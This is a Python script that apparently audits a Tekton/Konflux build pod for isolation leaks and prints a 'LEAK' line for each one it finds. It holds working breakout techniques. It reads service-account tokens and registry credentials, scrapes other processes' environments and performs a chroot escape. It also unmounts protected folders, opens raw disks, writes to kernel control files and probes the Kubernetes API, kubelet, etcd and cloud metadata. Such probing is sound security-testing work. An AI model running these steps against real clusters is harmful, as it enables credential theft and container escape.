"""Looks for a way out of the build, and prints a line `LEAK …` for each that is found."""
import ctypes
import glob
import os
import socket
import ssl
import urllib.request

SECRETS = [
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/run/secrets/kubernetes.io/serviceaccount/token",
    "/tekton/creds", "/tekton/home/.docker/config.json", "/tekton/results", "/tekton/creds-secrets",
    os.path.join("/root", ".docker/config.json"), "/workspace", "/etc/kubernetes", "/var/lib/kubelet", "/run/containerd/containerd.sock",
]


def leak(what):
    print("LEAK", what, flush=True)


def secrets(where):
    for path in SECRETS:
        full = where + path
        try:
            if os.path.isdir(full):
                found = os.listdir(full)
                if found and path != "/workspace":
                    leak(f"{full} holds {found}")
            elif os.path.exists(full):
                open(full, "rb").read(1)
                leak(f"{full} can be read")
        except OSError:
            pass


def processes():
    for folder in glob.glob("/proc/[0-9]*"):
        if os.path.basename(folder) == str(os.getpid()):
            continue
        for secret in ("environ", "mem"):
            try:
                content = open(f"{folder}/{secret}", "rb").read(1) if secret == "environ" else b""
                # Processes of the same build know what the build knows; those outside have Tekton's variables.
                whole = open(f"{folder}/environ", "rb").read()
                if content and b"KUBERNETES_SERVICE_HOST" in whole and b"TOOLBOX" in whole:
                    leak(f"{folder}/{secret}: {whole[:200]}")
            except OSError:
                pass
        secrets(f"{folder}/root")


def escape():
    """The classic way out of a chroot."""
    try:
        os.makedirs("/tmp/jail", exist_ok=True)
        anchor = os.open("/", os.O_RDONLY)
        os.chroot("/tmp/jail")
        os.fchdir(anchor)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        # All that is secret is covered there, too; but whoever is out could change the sources after they were checked.
        leak(f"the chroot can be left: {sorted(os.listdir('/'))}")
    except OSError as error:
        print("chroot:", error, flush=True)


def kernel():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.umount2(b"/tekton", 2) == 0:
        leak("/tekton can be uncovered")
    for number in range(8):
        path = f"/tmp/disk{number}"
        try:
            os.mknod(path, 0o600 | 0o060000, os.makedev(254, number))
            open(path, "rb").read(512)
            leak(f"disk 254:{number} can be read")
        except OSError:
            pass
    for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/sys/fs/cgroup/cgroup.procs", "/dev/kmsg", "/dev/mem"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            leak(f"{path} can be written")
        except OSError:
            pass
    # A namespace of its own must not uncover what was covered in the outer one.
    if libc.unshare(0x10000000 | 0x00020000) == 0:
        for folder in (b"/tekton", b"/var/run/secrets", b"/run/secrets"):
            libc.umount2(folder, 2)
        secrets("")


def ask(url):
    context = ssl._create_unverified_context()
    with urllib.request.urlopen(url, timeout=3, context=context) as answer:
        return answer.read(200)


def network():
    host = os.environ.get("KUBERNETES_SERVICE_HOST", "10.96.0.1")
    for url in (
        f"https://{host}/api/v1/namespaces", f"https://{host}/api/v1/secrets",
        "https://10.88.0.1:10250/pods", "http://10.88.0.1:10255/pods", "http://169.254.169.254/latest/meta-data/",
        "https://10.88.0.1:2379/version", "https://images.dev.konflux.test/v2/_catalog",
    ):
        try:
            leak(f"{url} answers {ask(url)}")
        except Exception as error:
            print(url, error, flush=True)
    for path in ("/run/containerd/containerd.sock", "/var/run/docker.sock"):
        try:
            socket.socket(socket.AF_UNIX).connect(path)
            leak(f"{path} answers")
        except OSError:
            pass


def neighbours():
    """Other pods' processes and volumes."""
    for folder in ("/var/lib/kubelet/pods", "/var/log/pods", os.path.join("/proc/1/root", "var/log/pods")):
        if os.path.isdir(folder) and os.listdir(folder):
            leak(f"{folder} holds {os.listdir(folder)}")
    names = set()
    for folder in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            names.add(open(folder, "rb").read().split(b"\0")[0])
        except OSError:
            pass
    print("processes:", sorted(names), flush=True)
    if any(name.endswith((b"kubelet", b"containerd", b"etcd", b"application-service")) for name in names):
        leak(f"processes of the machine: {names}")


secrets("")
processes()
neighbours()
network()
kernel()
escape()
secrets("")
print("done", flush=True)
